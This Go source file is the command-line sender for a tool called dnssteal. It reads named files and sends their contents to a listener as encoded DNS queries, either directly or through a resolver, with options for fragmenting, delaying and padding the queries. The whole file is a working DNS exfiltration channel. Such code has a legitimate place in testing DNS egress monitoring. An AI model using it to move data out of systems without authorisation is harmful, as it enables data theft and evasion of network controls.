// SPDX-License-Identifier: GPL-3.0-or-later

// dnssteal-send transmits files to a dnssteal listener using DNS queries.
//
// Usage:
//
//	dnssteal-send --server 127.0.0.1:5353 --zone x FILE...
//	dnssteal-send --server 127.0.0.1:5353 --zone x --lookup help
package main

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"os"
	"os/signal"
	"path/filepath"
	"syscall"
	"time"

	"github.com/bassosimone/dnssteal"
	"github.com/miekg/dns"
	"github.com/spf13/pflag"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		if errors.Is(err, pflag.ErrHelp) {
			return
		}
		fmt.Fprintf(os.Stderr, "error: %v\n", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	flags := pflag.NewFlagSet("dnssteal-send", pflag.ContinueOnError)
	server := flags.StringP("server", "s", "127.0.0.1:5353", "address of the listener or of a resolver")
	zone := flags.StringP("zone", "z", "", "zone the listener is authoritative for (mandatory)")
	fragmentSize := flags.Int("fragment-size", dnssteal.DefaultFragmentSize, "payload characters per query")
	delay := flags.Duration("delay", 0, "pause between consecutive queries")
	timeout := flags.Duration("timeout", 2*time.Second, "timeout of each query")
	lookup := flags.String("lookup", "", `perform a control query ("file" or "help") instead of sending`)
	padding := flags.Bool("padding", false, "pad queries using RFC8467 block length padding")
	direct := flags.Bool("direct", false, "do not request recursion, when talking directly to the listener")
	verbose := flags.BoolP("verbose", "v", false, "log each query")
	if err := flags.Parse(args); err != nil {
		return err
	}
	if *zone == "" {
		return errors.New("--zone is required")
	}

	level := slog.LevelInfo
	if *verbose {
		level = slog.LevelDebug
	}
	logger := slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: level}))

	ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGINT, syscall.SIGTERM)
	defer stop()

	encoder := dnssteal.NewEncoder(*zone)
	encoder.FragmentSize = *fragmentSize

	sender := dnssteal.NewSender(*server, encoder)
	sender.Client = &dns.Client{Net: "udp", Timeout: *timeout}
	sender.Delay = *delay
	sender.Logger = logger
	if *padding {
		sender.Flags |= dnssteal.QueryFlagBlockLengthPadding
	}
	if *direct {
		sender.Flags |= dnssteal.QueryFlagNoRecursion
	}

	if *lookup != "" {
		text, err := sender.Lookup(ctx, *lookup)
		if err != nil {
			return err
		}
		fmt.Println(text)
		return nil
	}

	paths := flags.Args()
	if len(paths) < 1 {
		return errors.New("no files to send")
	}
	for _, path := range paths {
		content, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		id, err := sender.Send(ctx, filepath.Base(path), content)
		if err != nil {
			return fmt.Errorf("%s: %w", path, err)
		}
		fmt.Printf("%s %s\n", id, path)
	}
	return nil
}
